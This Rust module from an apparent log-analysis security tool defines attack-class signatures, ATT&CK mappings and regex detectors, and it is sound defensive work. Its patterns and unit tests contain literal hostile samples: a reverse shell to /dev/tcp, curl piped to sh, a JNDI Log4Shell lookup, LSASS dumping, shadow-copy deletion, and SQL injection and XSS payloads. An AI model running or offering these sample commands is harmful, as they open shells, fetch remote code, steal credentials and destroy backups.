//! Signatures for known attack classes, each with its MITRE ATT&CK technique and the evidence
//! that matched.
//!
//! Signatures run on the decoded attack-carrying parts of a line (see [`crate::line`]): SQL
//! injection and cross-site scripting with libinjection's semantics (the `libinjectionrs`
//! port), on each query / form / key=value value on its own as libinjection expects, and
//! patterns for the other classes. Web classes only look at the parts a client controls
//! (request target, values, body, user agent, referrer, and plain lines); host classes (shell
//! abuse, credential dumping, recovery inhibition, …) look at every part.
//!
//! ```
//! use soc_core::signatures::{AttackClass, Signatures};
//!
//! let signatures = Signatures::new();
//! let hit = signatures.strongest("GET /index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--").unwrap();
//! assert_eq!(hit, AttackClass::SqlInjection);
//! assert_eq!(hit.technique().id, "T1190");
//! let hits = signatures.matches("vssadmin delete shadows /all /quiet");
//! assert_eq!(hits[0].class, AttackClass::InhibitSystemRecovery);
//! assert_eq!(hits[0].evidence, "vssadmin delete shadows");
//! ```

pub mod attack;
mod brute_force;

use std::cell::RefCell;
use std::ops::Range;
use std::sync::LazyLock;

use regex::{Regex, RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};

use crate::line::{self, Part, Shape};

pub use attack::Technique;
pub use brute_force::{BruteForce, BruteForceTracker, FailedLogin, failed_login};

/// An attack class a signature recognises.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum AttackClass {
    /// SQL injection (libinjection, or an unmistakable `UNION … SELECT`).
    SqlInjection,
    /// Cross-site scripting (libinjection, or script tags and handlers).
    CrossSiteScripting,
    /// Path traversal and local / remote file inclusion.
    PathTraversal,
    /// OS command injection into a request.
    CommandInjection,
    /// Server-side template or expression-language injection.
    TemplateInjection,
    /// JNDI lookup injection (Log4Shell).
    JndiInjection,
    /// XML external entities.
    XmlExternalEntity,
    /// LDAP filter injection.
    LdapInjection,
    /// NoSQL operator injection.
    NoSqlInjection,
    /// A known vulnerability scanner or attack tool.
    Scanner,
    /// A reverse shell or an interactive shell bound to the network.
    ReverseShell,
    /// Downloaded code piped into a shell.
    DownloadAndExecute,
    /// Encoded or download-cradle PowerShell.
    EncodedPowerShell,
    /// A tool transfer through a system binary (certutil, bitsadmin).
    ToolTransfer,
    /// Shadow copies or backups deleted, recovery disabled.
    InhibitSystemRecovery,
    /// Credential dumping (LSASS, mimikatz, /etc/shadow).
    CredentialDumping,
    /// Crypto-mining.
    CryptoMining,
    /// A failed log-in to a privileged account.
    PrivilegedLoginFailure,
    /// Repeated failed log-ins from one source (see [`BruteForceTracker`]).
    BruteForce,
    /// Failed log-ins to many accounts from one source (see [`BruteForceTracker`]).
    PasswordSpraying,
}

impl AttackClass {
    /// Every class.
    pub const ALL: [AttackClass; 20] = [
        AttackClass::SqlInjection,
        AttackClass::CrossSiteScripting,
        AttackClass::PathTraversal,
        AttackClass::CommandInjection,
        AttackClass::TemplateInjection,
        AttackClass::JndiInjection,
        AttackClass::XmlExternalEntity,
        AttackClass::LdapInjection,
        AttackClass::NoSqlInjection,
        AttackClass::Scanner,
        AttackClass::ReverseShell,
        AttackClass::DownloadAndExecute,
        AttackClass::EncodedPowerShell,
        AttackClass::ToolTransfer,
        AttackClass::InhibitSystemRecovery,
        AttackClass::CredentialDumping,
        AttackClass::CryptoMining,
        AttackClass::PrivilegedLoginFailure,
        AttackClass::BruteForce,
        AttackClass::PasswordSpraying,
    ];

    /// The class's name (snake case, as stored and served).
    pub fn as_str(self) -> &'static str {
        match self {
            AttackClass::SqlInjection => "sql_injection",
            AttackClass::CrossSiteScripting => "cross_site_scripting",
            AttackClass::PathTraversal => "path_traversal",
            AttackClass::CommandInjection => "command_injection",
            AttackClass::TemplateInjection => "template_injection",
            AttackClass::JndiInjection => "jndi_injection",
            AttackClass::XmlExternalEntity => "xml_external_entity",
            AttackClass::LdapInjection => "ldap_injection",
            AttackClass::NoSqlInjection => "nosql_injection",
            AttackClass::Scanner => "scanner",
            AttackClass::ReverseShell => "reverse_shell",
            AttackClass::DownloadAndExecute => "download_and_execute",
            AttackClass::EncodedPowerShell => "encoded_powershell",
            AttackClass::ToolTransfer => "tool_transfer",
            AttackClass::InhibitSystemRecovery => "inhibit_system_recovery",
            AttackClass::CredentialDumping => "credential_dumping",
            AttackClass::CryptoMining => "crypto_mining",
            AttackClass::PrivilegedLoginFailure => "privileged_login_failure",
            AttackClass::BruteForce => "brute_force",
            AttackClass::PasswordSpraying => "password_spraying",
        }
    }

    /// A class by its name.
    pub fn parse(name: &str) -> Option<AttackClass> {
        AttackClass::ALL.into_iter().find(|c| c.as_str() == name)
    }

    /// The ATT&CK technique the class is evidence of.
    pub fn technique(self) -> Technique {
        use attack::*;
        match self {
            AttackClass::SqlInjection
            | AttackClass::CrossSiteScripting
            | AttackClass::PathTraversal
            | AttackClass::CommandInjection
            | AttackClass::TemplateInjection
            | AttackClass::JndiInjection
            | AttackClass::XmlExternalEntity
            | AttackClass::LdapInjection
            | AttackClass::NoSqlInjection => EXPLOIT_PUBLIC_FACING_APPLICATION,
            AttackClass::Scanner => VULNERABILITY_SCANNING,
            AttackClass::ReverseShell | AttackClass::DownloadAndExecute => UNIX_SHELL,
            AttackClass::EncodedPowerShell => POWERSHELL,
            AttackClass::ToolTransfer => INGRESS_TOOL_TRANSFER,
            AttackClass::InhibitSystemRecovery => INHIBIT_SYSTEM_RECOVERY,
            AttackClass::CredentialDumping => OS_CREDENTIAL_DUMPING,
            AttackClass::CryptoMining => RESOURCE_HIJACKING,
            AttackClass::PrivilegedLoginFailure => PASSWORD_GUESSING,
            AttackClass::BruteForce => BRUTE_FORCE,
            AttackClass::PasswordSpraying => PASSWORD_SPRAYING,
        }
    }

    /// How sure a match of this class is that the line is an attack, in [0, 1]; combined
    /// with the models' outputs into risk (see [`crate::Score::with_signature`]).
    /// Every confirmed class makes a line at least a high-severity threat; the ones that are
    /// the attack itself rather than an attempt (a shell, dumped credentials, deleted backups)
    /// make it critical.
    pub fn confidence(self) -> f64 {
        match self {
            AttackClass::ReverseShell
            | AttackClass::DownloadAndExecute
            | AttackClass::InhibitSystemRecovery
            | AttackClass::CredentialDumping
            | AttackClass::JndiInjection => 0.9,
            AttackClass::PrivilegedLoginFailure => 0.72,
            _ => 0.8,
        }
    }

    /// Whether the class is about requests to a web application (matched in the parts a web
    /// client controls) rather than about a host.
    fn is_web(self) -> bool {
        self.technique().id == attack::EXPLOIT_PUBLIC_FACING_APPLICATION.id
    }
}

impl std::fmt::Display for AttackClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One signature match in a line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SignatureMatch {
    /// The attack class.
    pub class: AttackClass,
    /// Its ATT&CK technique.
    pub technique: Technique,
    /// Where in the line the matching part is (bytes of the original line).
    pub span: Range<usize>,
    /// The matching part as it appears in the line.
    pub original: String,
    /// The decoded, normalised form the signature matched in (see [`crate::line`]).
    pub decoded: String,
    /// What matched: the pattern's text, or libinjection's fingerprint.
    pub evidence: String,
}

/// Patterns (on lower-case, decoded text) and the class each is evidence of.
const PATTERNS: &[(AttackClass, &str)] = &[
    (
        AttackClass::SqlInjection,
        r"(?-u:\b)union(?-u:\b).*(?-u:\b)select(?-u:\b).*(?-u:\b)from(?-u:\b)",
    ),
    (
        AttackClass::SqlInjection,
        r"(?-u:\b)(?:sleep|pg_sleep|benchmark)\s*\(\s*\d|(?-u:\b)waitfor\s+delay\s+'",
    ),
    (
        AttackClass::SqlInjection,
        r";\s*(?:drop|truncate)\s+table(?-u:\b)|(?-u:\b)information_schema\.|(?-u:\b)xp_cmdshell(?-u:\b)",
    ),
    (
        AttackClass::CrossSiteScripting,
        r"<\s*script(?-u:\b)|javascript\s*:\s*\S|<\s*(?:svg|img|iframe|body|video|audio|details|object|embed)(?-u:\b)[^>]*(?-u:\b)on[a-z]+\s*=",
    ),
    (
        AttackClass::PathTraversal,
        r"(?:\.\.[/\\]){2,}|\.\.[/\\].*(?:etc[/\\](?:passwd|shadow|hosts|group)|win\.ini|boot\.ini|system32|proc[/\\]self)",
    ),
    (
        AttackClass::PathTraversal,
        r"(?:^|[=/\s])(?:/etc/(?:passwd|shadow)(?-u:\b)|c:\\windows\\win\.ini)|(?-u:\b)(?:php|expect|phar|zip|data)://|(?-u:\b)file:///",
    ),
    (
        AttackClass::CommandInjection,
        r"(?:[;|`]|&&|\$\()\s*(?:cat|id|ls|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|sleep|echo|rm|chmod|python\d?|perl|ruby|php|powershell|cmd(?:\.exe)?)(?-u:\b)",
    ),
    (AttackClass::CommandInjection, r"\(\)\s*\{\s*:\s*;\s*\}\s*;"),
    (
        AttackClass::TemplateInjection,
        r"\{\{.*(?:\d\s*\*\s*\d|__class__|__globals__|__builtins__|config|self\.|request\.|lipsum|cycler|joiner).*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|#\{\s*\d+\s*\*\s*\d+\s*\}|<%=.*%>|\{%.*(?:import|popen|system).*%\}|\$\{.*(?:runtime|getclass|forname)",
    ),
    (
        AttackClass::JndiInjection,
        r"\$\{\s*(?:jndi|\$\{.*\}j)[^}]*:",
    ),
    (
        AttackClass::XmlExternalEntity,
        r"<!doctype[^>]*\[\s*<!entity|<!entity\s+(?:%\s*)?\S+\s+(?:system|public)(?-u:\b)",
    ),
    (
        AttackClass::LdapInjection,
        r"\*\)\s*\(\s*[|&!]|\)\s*\(\s*[|&]\s*\(|\(\s*\|\s*\(\s*(?:uid|cn|mail|objectclass)\s*=\s*\*",
    ),
    (
        AttackClass::NoSqlInjection,
        r"\[\s*\$(?:ne|gt|gte|lt|lte|regex|where|exists|nin|in)\s*\]|\{\s*.?\$(?:ne|gt|gte|lt|where|regex|exists|nin)(?-u:\b).?\s*:|\$where\s*[:=]",
    ),
    (
        AttackClass::ReverseShell,
        r"/dev/(?:tcp|udp)/\S+|(?-u:\b)bash\s+-i(?-u:\b)|(?-u:\b)sh\s+-i(?-u:\b)|(?-u:\b)nc(?:at)?\s+(?:\S+\s+)*-[a-z]*[ec]\s+/?\S*(?:sh|cmd)|(?-u:\b)mkfifo(?-u:\b).*(?-u:\b)nc(?-u:\b)|socket\.socket\(.*(?:subprocess|pty\.spawn|dup2)|(?-u:\b)socat(?-u:\b).*(?-u:\b)exec:",
    ),
    (
        AttackClass::DownloadAndExecute,
        r"(?-u:\b)(?:curl|wget)(?-u:\b)[^|;&]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^|;&]*(?:&&|;)\s*(?:ba)?sh\s",
    ),
    (
        AttackClass::EncodedPowerShell,
        r"(?-u:\b)powershell(?:\.exe)?(?-u:\b).*\s[-/]e(?:nc(?:odedcommand)?|c)?\s+[a-z0-9+/=]{8,}|(?-u:\b)iex\s*\(?\s*\(?\s*new-object\s+(?:system\.)?net\.webclient|\.downloadstring\s*\(|(?-u:\b)invoke-expression(?-u:\b).*(?-u:\b)download",
    ),
    (
        AttackClass::ToolTransfer,
        r"(?-u:\b)certutil(?:\.exe)?(?-u:\b).*-urlcache|(?-u:\b)bitsadmin(?:\.exe)?(?-u:\b).*/transfer",
    ),
    (
        AttackClass::InhibitSystemRecovery,
        r"(?-u:\b)vssadmin(?:\.exe)?\s+delete\s+shadows|(?-u:\b)wmic(?:\.exe)?\s+shadowcopy\s+delete|(?-u:\b)bcdedit(?:\.exe)?(?-u:\b).*recoveryenabled\s+no|(?-u:\b)wbadmin(?:\.exe)?\s+delete\s+(?:catalog|systemstatebackup)",
    ),
    (
        AttackClass::CredentialDumping,
        r"(?-u:\b)mimikatz(?-u:\b)|(?-u:\b)sekurlsa::|(?-u:\b)lsadump::|(?-u:\b)procdump(?:64)?(?:\.exe)?(?-u:\b).*(?-u:\b)lsass|(?-u:\b)comsvcs(?:\.dll)?\W.*minidump|(?-u:\b)(?:cat|less|more|head|tail|cp|scp|base64)\s+/etc/shadow(?-u:\b)|(?-u:\b)unshadow(?-u:\b)",
    ),
    (
        AttackClass::CryptoMining,
        r"stratum\+(?:tcp|ssl)://|(?-u:\b)xmrig(?-u:\b)|(?-u:\b)minerd(?-u:\b)|(?-u:\b)cryptonight(?-u:\b)",
    ),
    (
        AttackClass::Scanner,
        r"(?-u:\b)(?:sqlmap|nikto|nmap scripting engine|masscan|zgrab|nuclei|dirbuster|gobuster|wpscan|acunetix|nessus|openvas|w3af|hydra|ffuf|wfuzz|zmeu|jorgee|netsparker|havij|commix|fimap|arachni|skipfish|whatweb)(?-u:\b)",
    ),
    (
        AttackClass::PrivilegedLoginFailure,
        r"(?-u:\b)failed password for (?:invalid user )?(?:root|admin|administrator)(?-u:\b)|(?-u:\b)authentication failure(?-u:\b).*(?-u:\b)user=root(?-u:\b)",
    ),
];

/// The signatures, compiled once. Cheap to share; matching keeps per-thread buffers.
#[derive(Debug)]
pub struct Signatures {
    set: RegexSet,
    each: Vec<Regex>,
}

impl Default for Signatures {
    fn default() -> Self {
        Signatures::new()
    }
}

/// Per-thread buffers of [`Signatures::strongest`].
#[derive(Default)]
struct Buffers {
    spans: Vec<(Part, Range<usize>)>,
    decoded: String,
    normalized: String,
}

thread_local! {
    static BUFFERS: RefCell<Buffers> = RefCell::new(Buffers::default());
}

/// libinjection's tests cost microseconds on a long line: they run only on values that could
/// hold what they look for (SQL needs a quote, a parenthesis, a statement separator or a
/// comment to break out of its context; markup needs an angle bracket, a handler or a URL
/// scheme), and on at most this many bytes of them.
const MAX_INJECTION_BYTES: usize = 4096;

fn sqli_candidate(s: &str) -> bool {
    s.bytes()
        .any(|b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'#'))
        || s.contains("--")
        || s.contains("/*")
        || (s.contains('(') && s.contains(')') && s.len() < 512)
}

fn xss_candidate(s: &str) -> bool {
    s.bytes().any(|b| matches!(b, b'<' | b'>'))
        || s.contains("script:")
        || (s.contains('=') && s.bytes().any(|b| matches!(b, b'"' | b'\'' | b'`')))
}

static SHARED: LazyLock<Signatures> = LazyLock::new(Signatures::new);

impl Signatures {
    /// The signatures compiled once per process.
    pub fn shared() -> &'static Signatures {
        &SHARED
    }

    /// Compiles the signatures.
    pub fn new() -> Self {
        let sources: Vec<&str> = PATTERNS.iter().map(|(_, p)| *p).collect();
        // The patterns are constants, tested to compile.
        // A larger lazy-DFA cache than the default: with every pattern in one set, the default
        // thrashes and the set falls back to a slower engine (measured: 3 µs against 1 µs a
        // syslog line).
        let set = RegexSetBuilder::new(&sources)
            .dfa_size_limit(64 << 20)
            .build()
            .expect("signature patterns compile");
        let each = sources
            .iter()
            .map(|p| Regex::new(p).expect("signature patterns compile"))
            .collect();
        Signatures { set, each }
    }

    /// The strongest class that matches `line` (highest confidence, then the first in
    /// line order), without evidence: the fast path of scoring.
    pub fn strongest(&self, line: &str) -> Option<AttackClass> {
        self.scan(line, None)
    }

    /// [`Signatures::strongest`], and the line with its attack-carrying parts decoded into
    /// `decoded_line` when given (what the detector's features see): one parse for both.
    pub fn scan(&self, line: &str, mut decoded_line: Option<&mut String>) -> Option<AttackClass> {
        BUFFERS.with(|cell| {
            let mut guard = cell.try_borrow_mut().ok();
            let mut fresh = Buffers::default();
            let b = guard.as_deref_mut().unwrap_or(&mut fresh);
            let mut best: Option<AttackClass> = None;
            let shape = line::split(line, &mut b.spans);
            if let Some(out) = decoded_line.as_deref_mut() {
                out.clear();
            }
            let mut copied = 0;
            for (part, span) in &b.spans {
                line::decode_into(&line[span.clone()], *part == Part::Value, &mut b.decoded);
                if let Some(out) = decoded_line.as_deref_mut() {
                    out.push_str(&line[copied..span.start]);
                    out.push_str(&b.decoded);
                    copied = span.end;
                }
                line::normalize_into(&b.decoded, &mut b.normalized);
                let web = is_web_part(*part, shape);
                let mut consider = |c: AttackClass| {
                    if best.is_none_or(|b| c.confidence() > b.confidence()) {
                        best = Some(c);
                    }
                };
                if web && let Some(c) = libinjection(&b.decoded, *part) {
                    consider(c);
                }
                for i in self.set.matches(&b.normalized).iter() {
                    let class = PATTERNS[i].0;
                    if applies(class, *part, web) {
                        consider(class);
                    }
                }
            }
            if let Some(out) = decoded_line {
                out.push_str(&line[copied..]);
            }
            best
        })
    }

    /// Every signature match in `line`, with its evidence, strongest first.
    pub fn matches(&self, line: &str) -> Vec<SignatureMatch> {
        let parsed = line::parse(line);
        let mut out: Vec<SignatureMatch> = Vec::new();
        let mut normalized = String::new();
        for field in &parsed.fields {
            line::normalize_into(&field.decoded, &mut normalized);
            let web = is_web_part(field.part, parsed.shape);
            let mut push = |class: AttackClass, evidence: String| {
                if !out.iter().any(|m| m.class == class && m.span == field.span) {
                    out.push(SignatureMatch {
                        class,
                        technique: class.technique(),
                        span: field.span.clone(),
                        original: line[field.span.clone()].to_string(),
                        decoded: normalized.clone(),
                        evidence,
                    });
                }
            };
            if web && let Some(c) = libinjection(&field.decoded, field.part) {
                let evidence = match c {
                    AttackClass::SqlInjection => format!(
                        "libinjection SQLi fingerprint {}",
                        sqli_fingerprint(&field.decoded)
                    ),
                    _ => "libinjection XSS".to_string(),
                };
                push(c, evidence);
            }
            for i in self.set.matches(&normalized).iter() {
                let class = PATTERNS[i].0;
                if applies(class, field.part, web) {
                    let evidence = self.each[i]
                        .find(&normalized)
                        .map(|m| clip(m.as_str(), 200))
                        .unwrap_or_default();
                    push(class, evidence);
                }
            }
        }
        out.sort_by(|a, b| b.class.confidence().total_cmp(&a.class.confidence()));
        out
    }
}

/// At most `max` bytes of `s`, cut at a character boundary.
fn clip(s: &str, max: usize) -> String {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s[..end].to_string()
}

/// Whether `part` of a line of `shape` is controlled by a web client (web classes match only
/// there).
fn is_web_part(part: Part, shape: Shape) -> bool {
    match part {
        Part::Path | Part::Value | Part::Body | Part::UserAgent | Part::Referrer => true,
        Part::Message => matches!(shape, Shape::Plain | Shape::Json),
        Part::Program => false,
    }
}

/// Whether a match of `class` in `part` counts.
fn applies(class: AttackClass, part: Part, web: bool) -> bool {
    match class {
        AttackClass::Scanner => matches!(part, Part::UserAgent | Part::Message),
        // A user agent is free text (`; id)` is a locale there); shellshock has its own pattern.
        AttackClass::CommandInjection => web && part != Part::UserAgent,
        c if c.is_web() => web,
        _ => true,
    }
}

/// libinjection's verdict on one decoded value: SQLi for values, bodies and plain lines (a
/// path or a user agent is no SQL context), XSS for every web part.
fn libinjection(value: &str, part: Part) -> Option<AttackClass> {
    let mut end = value.len().min(MAX_INJECTION_BYTES);
    while !value.is_char_boundary(end) {
        end -= 1;
    }
    let value = &value[..end];
    if matches!(part, Part::Value | Part::Body | Part::Message)
        && sqli_candidate(value)
        && libinjectionrs::detect_sqli(value.as_bytes()).is_injection()
    {
        return Some(AttackClass::SqlInjection);
    }
    if xss_candidate(value) && libinjectionrs::detect_xss(value.as_bytes()).is_injection() {
        return Some(AttackClass::CrossSiteScripting);
    }
    None
}

fn sqli_fingerprint(value: &str) -> String {
    libinjectionrs::detect_sqli(value.as_bytes())
        .fingerprint
        .map(|f| f.to_string())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(line: &str) -> Option<AttackClass> {
        Signatures::new().strongest(line)
    }

    #[test]
    fn textbook_attacks_match_with_their_technique() {
        let cases = [
            (
                "GET /index.php?id=1' UNION SELECT password FROM users--",
                "T1190",
            ),
            ("GET /../../etc/passwd HTTP/1.1", "T1190"),
            ("<script>alert(document.cookie)</script>", "T1190"),
            (
                "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                "T1059.001",
            ),
            ("curl http://198.51.100.9/a.sh | sh", "T1059.004"),
            ("vssadmin delete shadows /all /quiet", "T1490"),
            (
                "Dec  8 01:02:03 web-01 sshd[411]: Failed password for root from 203.0.113.7 port 22 ssh2",
                "T1110.001",
            ),
            (
                "GET /item?id=1%27%20UNION%20SELECT%20card%20FROM%20users-- HTTP/1.1",
                "T1190",
            ),
            ("GET /item?id=1%2527%2520OR%25201%253D1-- HTTP/1.1", "T1190"),
            ("GET /item?id=%u0027%20or%201=1-- HTTP/1.1", "T1190"),
            ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "T1059.004"),
            ("GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1", "T1190"),
            ("GET /search?q={{7*7}} HTTP/1.1", "T1190"),
            ("procdump.exe -ma lsass.exe out.dmp", "T1003"),
        ];
        for (line, technique) in cases {
            let c = class(line).unwrap_or_else(|| panic!("missed: {line}"));
            assert_eq!(c.technique().id, technique, "{line}: {c}");
        }
    }

    #[test]
    fn ordinary_lines_do_not_match() {
        for line in [
            r#"83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36""#,
            "Dec  8 01:02:03 web-01 sshd[411]: Accepted publickey for deploy from 10.0.0.5 port 50122 ssh2",
            "Dec  8 01:02:03 web-01 sshd[411]: Failed password for alice from 10.0.0.5 port 50122 ssh2",
            "GET /api/items?page=2&sort=-created HTTP/1.1",
            "user's session closed after 30 minutes (idle)",
            "time=2026-12-08T01:00:00Z level=info msg=\"select a plan from the list\" user=bob",
            "RAS KERNEL INFO generating core.2275",
        ] {
            assert_eq!(class(line), None, "{line}");
        }
    }

    #[test]
    fn matches_show_original_and_decoded_evidence() {
        let m =
            Signatures::new().matches("GET /a?id=1%27%20UNION%20SELECT%20x%20FROM%20t-- HTTP/1.1");
        assert_eq!(m[0].class, AttackClass::SqlInjection);
        assert_eq!(m[0].original, "1%27%20UNION%20SELECT%20x%20FROM%20t--");
        assert_eq!(m[0].decoded, "1' union select x from t--");
        assert!(m[0].evidence.contains("fingerprint"), "{}", m[0].evidence);
    }

    #[test]
    fn classes_round_trip_their_names() {
        for c in AttackClass::ALL {
            assert_eq!(AttackClass::parse(c.as_str()), Some(c));
            assert!(attack::technique(c.technique().id).is_some());
        }
    }
}
